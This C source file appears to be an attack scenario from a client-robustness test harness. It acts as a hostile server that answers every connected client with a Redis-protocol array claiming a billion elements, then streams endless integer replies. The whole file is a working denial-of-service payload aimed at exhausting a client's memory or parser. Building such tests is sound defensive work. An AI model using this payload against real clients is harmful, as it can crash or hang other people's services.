/*
 * Answers its clients with a list that never ends.
 * Base: reference
 * World: real
 * Finds: assembly
 * Shows: .
 */
#include "co.h"
#include "raw.h"

static void answer(void *unused)
{
    static char items[1 << 15];

    (void)unused;
    for (size_t i = 0; i < sizeof items; i += 4)
        memcpy(items + i, ":1\r\n", 4);
    while (await_sleep(1) == 0)
        for (int fd = 3; fd < 64; fd++) {
            raw_say(fd, "*1000000000\r\n");
            for (int times = 0; times < 100; times++)
                raw(SYS_write, fd, (long)items, (long)sizeof items, 0, 0);
        }
}

void attack(void)
{
    co_spawn("answer", answer, NULL);
}
